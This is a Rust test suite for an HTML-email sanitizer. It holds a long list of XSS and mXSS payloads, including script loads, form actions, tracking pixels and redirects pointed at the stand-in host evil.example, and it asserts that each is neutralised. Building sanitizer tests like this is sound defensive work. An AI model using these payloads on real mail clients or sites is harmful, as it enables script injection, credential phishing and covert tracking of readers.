//! Hostile HTML: what may never come through, whatever road it takes, and what must.

use super::*;
use proptest::prelude::*;

fn body(html: &str) -> String {
    body_with(html, false)
}
fn body_with(html: &str, remote: bool) -> String {
    let images = BTreeMap::from([
        ("logo@x".to_owned(), InlineImage { media_type: "image/png".into(), bytes: vec![1, 2, 3] }),
        ("evil@x".to_owned(), InlineImage { media_type: "image/svg+xml".into(), bytes: b"<svg/>".to_vec() }),
    ]);
    let rendered = render(html, images, remote);
    assert!(!rendered.refused, "the last check was needed: {html}");
    let (_, body) = rendered.document.split_once("<body>").unwrap();
    body.strip_suffix("</body></html>").unwrap().to_owned()
}

/// Ways by which script has run in mail and web programs: elements, handlers, schemes, namespaces, parser confusion.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<object type=text/html data=//evil.example></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=Evil>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\" \u{1}javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"blob:https://x.example/1\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"/api/v1/session\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<p style=\"background:url(https://evil.example/x)\">x</p>",
    "<p style=\"background-image:image-set('https://evil.example/x' 1x)\">x</p>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"position:fixed;inset:0;z-index:9999\">cover</div>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=https://evil.example/x src=https://evil.example/y>",
    "<audio src=https://evil.example/x autoplay>",
    "<img srcset='https://evil.example/x 1x'>",
    "<picture><source srcset=https://evil.example/x><img alt=x></picture>",
    "<table background=https://evil.example/x><tr><td background=https://evil.example/y>x</table>",
    "<body background=https://evil.example/x onload=alert(1)>x",
    "<img src=https://evil.example/pixel width=1 height=1>",
    "<img lowsrc=https://evil.example/x dynsrc=https://evil.example/y>",
    "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
    "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
    "<img src=\"data:image/png,<svg onload=alert(1)>\">",
    "<img src=cid:evil@x>",
    "<bgsound src=https://evil.example/x>",
    "<frameset><frame src=https://evil.example/></frameset>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<portal src=https://evil.example></portal>",
    "<template><img src=x onerror=alert(1)></template>",
    "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    "<select><option><style></option></select><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><?import namespace=\"t\" implementation=\"#default#time2\"?>",
    "<a href=https://x.example target=_self onclick=alert(1) ping=https://evil.example>x</a>",
    "<a id=x name=y class=s0 href=https://x.example>x</a>",
    "<p contenteditable accesskey=x tabindex=1 autofocus onfocus=alert(1)>x</p>",
    "<x onclick=alert(1)>x",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<a href=\"https://x.example\" title='\"><script>alert(1)</script>'>x</a>",
    "<img alt='\"><script>alert(1)</script>' src=x>",
    "<font face=\"'><script>alert(1)</script>\">x</font>",
];

/// What is true of every document, whatever went in.
fn assert_safe(html: &str, out: &str) {
    let mut rest = out;
    while let Some((_, tag)) = rest.split_once('<') {
        let mut quoted = false;
        let end = tag
            .char_indices()
            .find(|(_, c)| {
                quoted ^= *c == '"';
                *c == '>' && !quoted
            })
            .map(|(at, _)| at)
            .unwrap_or_else(|| panic!("{html:?} gave a tag without an end: {out}"));
        assert_tag(html, &tag[..end]);
        rest = &tag[end + 1..];
    }
}

fn assert_tag(html: &str, tag: &str) {
    let name = tag.trim_start_matches('/').split(' ').next().unwrap();
    assert!(TAGS.contains(&name), "{html:?} let <{tag}> through");
    let mut rest = tag.split_once(' ').map_or("", |(_, a)| a);
    while let Some((attribute, after)) = rest.split_once("=\"") {
        let attribute = attribute.trim();
        let (value, after) = after.split_once('"').unwrap();
        assert!(
            ["class", "title", "dir", "lang", "rel", "target"].contains(&attribute)
                || ATTRIBUTES.iter().any(|(t, names)| *t == name && names.contains(&attribute)),
            "{html:?} let {attribute} of <{name}> through"
        );
        assert_ne!(attribute, "style");
        if attribute == "href" {
            assert!(
                ["http", "https", "mailto", "tel"].contains(&scheme_of(value).unwrap().as_str()),
                "{html:?}: {value}"
            );
        }
        if attribute == "src" {
            assert!(value.starts_with("data:image/") && !value.contains("svg"), "{html:?}: {value}");
        }
        rest = after;
    }
    assert_eq!(rest.trim(), "", "{html:?}: rest of <{tag}>");
}

#[test]
fn nothing_hostile_comes_through() {
    for html in HOSTILE {
        assert_safe(html, &body(html));
        // As part of an ordinary mail as well.
        let within = format!("<table><tr><td><p>Dear <b>doctor {html} </b></p></td></tr></table>");
        assert_safe(&within, &body(&within));
    }
}

#[test]
fn what_was_made_safe_stays_so_when_it_is_read_again() {
    for html in HOSTILE {
        let once = body(html);
        assert_safe(html, &body(&once));
    }
}

#[test]
fn ordinary_mail_keeps_its_shape() {
    assert_eq!(
        body("<p align=center>Hello <b>you</b><br><a href='https://clinic.example/a?b=1&c=2'>page</a></p>"),
        "<p align=\"center\">Hello <b>you</b><br><a href=\"https://clinic.example/a?b=1&amp;c=2\" target=\"_blank\" \
         rel=\"noopener noreferrer nofollow\" title=\"https://clinic.example/a?b=1&amp;c=2\">page</a></p>"
    );
    assert_eq!(
        body("<table width=600 bgcolor=#eee><tr><td style='padding:8px;color:navy'>x</table>"),
        "<table width=\"600\" bgcolor=\"#eee\"><tbody><tr><td class=\"s0\">x</td></tr></tbody></table>"
    );
}

#[test]
fn addresses_are_judged_and_written_as_browsers_read_them() {
    let link = |html: &str| body(html).split('"').nth(1).map(str::to_owned);
    assert_eq!(link("<a href='\u{1f}https://x.example/'>a</a>").as_deref(), Some("https://x.example/"));
    assert_eq!(link("<a href='ht\ttps://x.exa\nmple/'>a</a>").as_deref(), Some("https://x.example/"));
    assert_eq!(link("<a href='HTTPS://x.example/'>a</a>").as_deref(), Some("HTTPS://x.example/"));
    assert_eq!(link("<a href='java\u{0}script:x'>a</a>").as_deref(), Some("_blank"), "no address at all");
    assert_eq!(body("<img src=' DATA:IMAGE/PNG;base64,AA== '>"), "<img src=\"data:image/png;base64,AA==\">");
}

#[test]
fn own_pictures_stand_in_the_document_and_remote_ones_are_counted() {
    assert_eq!(body("<img src=cid:logo@x alt=l>"), "<img src=\"data:image/png;base64,AQID\" alt=\"l\">");
    assert_eq!(body("<img src=cid:logo%40x>"), "<img src=\"data:image/png;base64,AQID\">");
    assert_eq!(body("<img src=cid:none@x alt=l>"), "<img alt=\"l\" class=\"gone\">");
    let rendered = render("<img src=http://a.example/1><img src=https://a.example/2>", BTreeMap::new(), false);
    assert_eq!(rendered.blocked, 2);
    assert!(!rendered.document.contains("a.example"));
}

#[test]
fn remote_pictures_come_over_tls_and_only_when_asked_for() {
    let html = "<img src=http://a.example/1><img src=https://a.example/2>";
    assert_eq!(body_with(html, true), "<img src=\"https://a.example/1\"><img src=\"https://a.example/2\">");
    let policy = |remote| render(html, BTreeMap::new(), remote).policy;
    assert!(policy(true).contains("img-src data: https:;"));
    assert!(policy(false).contains("img-src data:;"));
}

#[test]
fn the_policy_names_the_one_style_sheet_and_forbids_the_rest() {
    let rendered = render("<p style='color:red'>x</p>", BTreeMap::new(), false);
    let (_, style) = rendered.document.split_once("<style>").unwrap();
    let (style, _) = style.split_once("</style>").unwrap();
    assert!(style.ends_with(".s0{color:red}"));
    let hash = STANDARD.encode(digest::digest(&digest::SHA256, style.as_bytes()));
    assert!(rendered.policy.contains(&format!("style-src 'sha256-{hash}';")));
    for part in ["default-src 'none'", "form-action 'none'", "base-uri 'none'", "sandbox allow-popups"] {
        assert!(rendered.policy.contains(part), "{part}");
    }
    assert!(!rendered.policy.contains("unsafe") && !rendered.policy.contains("allow-scripts"));
    assert!(!rendered.policy.contains("allow-same-origin"));
}

#[test]
fn of_what_is_too_deep_only_the_words_are_shown() {
    let rendered = render(&format!("{}1 &lt; 2", "<div>".repeat(50_000)), BTreeMap::new(), false);
    assert!(rendered.document.contains("<pre>1&#32;&lt;&#32;2</pre>"), "{}", rendered.document);
}

#[test]
fn only_referred_pictures_are_fetched() {
    assert!(refers_to("<img src=\"cid:a@b\">", "<a@b>"));
    assert!(!refers_to("<img src=\"cid:a@b\">", "c@d"));
    assert!(!refers_to("cid:", ""));
}

proptest! {
    #[test]
    fn whatever_is_put_together_of_hostile_pieces_stays_safe(pieces in proptest::collection::vec(0..HOSTILE.len() * 2, 1..6)) {
        const GLUE: &[&str] = &["<b>", "</p>", "<table>", "</svg>", "<math>", "<a href=https://x.example>", "\"", "'>", "-->", "]]>", "</style>", "<p style='color:red'>"];
        let html: String = pieces
            .iter()
            .map(|i| HOSTILE.get(*i).copied().unwrap_or_else(|| GLUE[i % GLUE.len()]))
            .collect();
        assert_safe(&html, &body(&html));
    }
}
